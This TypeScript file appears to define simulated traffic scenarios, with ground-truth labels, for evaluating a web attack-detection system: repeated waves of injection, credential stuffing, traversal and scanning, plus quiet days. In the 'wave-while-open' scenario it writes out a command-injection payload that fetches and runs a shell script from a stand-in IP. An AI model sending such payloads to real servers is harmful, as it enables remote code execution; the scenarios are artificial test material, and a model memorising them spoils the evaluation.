import { HOUR_MS, MINUTE_MS } from "#lib/units.ts";
import { JA4, person, tool, zombie } from "../clients.ts";
import { get, post, textFrom } from "../sites.ts";
import { by } from "../stage.ts";
import { PEOPLE } from "../texts.ts";
import { inject, stuff, traverse } from "./attacks.ts";
import { hostileText, scanRequest } from "./scanners.ts";
import { ATTACK, type CaseTruth, MISFIRE, SCAN, type Scene, type Situation } from "./situation.ts";

const WAVE: CaseTruth = { truth: "attack", isWave: true };

/** Returns when a second wave begins: 30 to 60 minutes after the end of the first. */
const later = ({ dice, start }: Scene, firstMinutes: number) =>
  start + (firstMinutes + dice.between(30, 60)) * MINUTE_MS;

/** Two causes in one zone. */
export const WAVES: readonly Situation[] = [
  {
    name: "attack-in-misfire",
    cases: { main: MISFIRE, attack: ATTACK },
    zone: { kinds: ["shop", "forum"], paranoia: 2, hours: [8, 15] },
    play(scene) {
      const { dice, site, start, pace, visit } = scene;
      pace(start, 300, 1, (at) => visit(at, by(person(dice), get(site.search, "q", PEOPLE.search(dice)))));
      inject(scene, 4, 260, 12, "attack", start + 90 * MINUTE_MS);
    },
  },
  {
    name: "exploit-in-misfire",
    cases: { main: MISFIRE, attack: ATTACK },
    zone: { kinds: ["portal", "shop"], paranoia: 2, hours: [8, 15] },
    play({ dice, start, pace, visit, send }) {
      pace(start, 280, 0.9, (at) =>
        visit(
          at,
          by(
            person(dice),
            post("/contact", "message", dice.chance(0.5) ? PEOPLE.quoted(dice) : textFrom("support", dice)),
          ),
        ),
      );
      const clients = Array.from({ length: 9 }, () => zombie(dice, JA4.go));
      pace(start + 80 * MINUTE_MS, 30, 10, (at) =>
        send(at, by(dice.pick(clients), post("/contact", "message", hostileText(dice))), "attack"),
      );
    },
  },
  {
    name: "second-injection",
    cases: { main: ATTACK, second: WAVE },
    play(scene) {
      inject(scene, 6, 300, 15);
      inject(scene, 5, 300, 15, "second", later(scene, 20));
    },
  },
  {
    name: "second-botnet",
    cases: { main: ATTACK, second: WAVE },
    play(scene) {
      inject(scene, 45, 400, 20);
      inject(scene, 45, 400, 20, "second", later(scene, 20));
    },
  },
  {
    name: "second-stuffing",
    cases: { main: ATTACK, second: WAVE },
    zone: { kinds: ["shop", "api"], hasLimits: true },
    play(scene) {
      stuff(scene, 150, 30, 30);
      stuff(scene, 150, 30, 30, "second", later(scene, 30));
    },
  },
  {
    name: "second-traversal",
    cases: { main: ATTACK, second: WAVE },
    play(scene) {
      traverse(scene, 4, 220, 14);
      traverse(scene, 3, 220, 14, "second", later(scene, 16));
    },
  },
  {
    // One exploit of few rules. The first senders go on a little, so that their alert is still open when others begin.
    name: "wave-while-open",
    cases: { main: ATTACK, second: WAVE },
    play(scene) {
      const { dice, start, pace, send } = scene;
      const from = later(scene, 15);
      const shoot = (senders: number, begin: number, minutes: number, perMinute: number, of?: string) => {
        const clients = Array.from({ length: senders }, () => zombie(dice, JA4.go));
        const request = post("/cgi-bin/status", "host", ";cd /tmp; wget http://203.0.113.77/m.sh; sh m.sh");
        pace(begin, minutes, perMinute, (at) => send(at, by(dice.pick(clients), request), of));
      };
      shoot(5, start, 15, 20);
      shoot(2, start, (from - start) / MINUTE_MS + 10, 1.5);
      shoot(3, from, 20, 25, "second");
    },
  },
  {
    name: "second-scan",
    cases: { main: SCAN, second: { ...SCAN, isWave: true } },
    play(scene) {
      const { dice, site, start, send } = scene;
      const scan = (from: number, of?: string) => {
        const client = tool(dice, person(dice).ua, JA4.python, true);
        for (let index = 0, at = from; index < 450; index += 1, at += dice.wait(600))
          send(at, by(client, scanRequest(dice, site.pages(dice))), of);
      };
      scan(start);
      scan(later(scene, 5), "second");
    },
  },
  {
    name: "wave-after-misfire",
    cases: { main: MISFIRE, attack: ATTACK },
    zone: { kinds: ["shop", "news"], paranoia: 2, hours: [7, 14] },
    play(scene) {
      const { dice, site, start, pace, visit } = scene;
      pace(start, 120, 1.2, (at) => visit(at, by(person(dice), get(site.search, "q", PEOPLE.search(dice)))));
      inject(scene, 7, 260, 14, "attack", later(scene, 120));
    },
  },
];

/** Everyday traffic of days on which nothing happens. */
const NOTHING: CaseTruth = { truth: "nothing" };
const quiet = (
  name: string,
  zone: Situation["zone"] = {},
  play: Situation["play"] = () => {},
): Situation => ({ name, cases: { main: NOTHING }, zone, play });

export const QUIET: readonly Situation[] = [
  quiet("quiet-shop", { kinds: ["shop"], visitsPerDay: 150 }),
  quiet("quiet-forum", { kinds: ["forum"], paranoia: 2, visitsPerDay: 110 }),
  quiet("quiet-portal", { kinds: ["portal"], visitsPerDay: 150 }),
  quiet("quiet-api", { kinds: ["api"], visitsPerDay: 60 }),
  quiet(
    "everyday-bursts",
    { kinds: ["shop", "news"], paranoia: 2, visitsPerDay: 120 },
    ({ dice, start, send, visit }) => {
      for (let burst = 0; burst < 6; burst += 1) {
        const from = start - dice.below(3 * 24) * HOUR_MS;
        const one = by(person(dice), post("/contact", "message", PEOPLE.code(dice)));
        const link = PEOPLE.link(dice);
        for (let index = dice.whole(6, 16); index > 0; index -= 1) {
          if (burst % 2 === 0) send(from + dice.below(12 * MINUTE_MS), one);
          else visit(from + dice.wait(12 * MINUTE_MS), by(person(dice), get("/l/news", "url", link)));
        }
      }
    },
  ),
  quiet("first-day-quiet", { isFirstDay: true, visitsPerDay: 110 }),
];
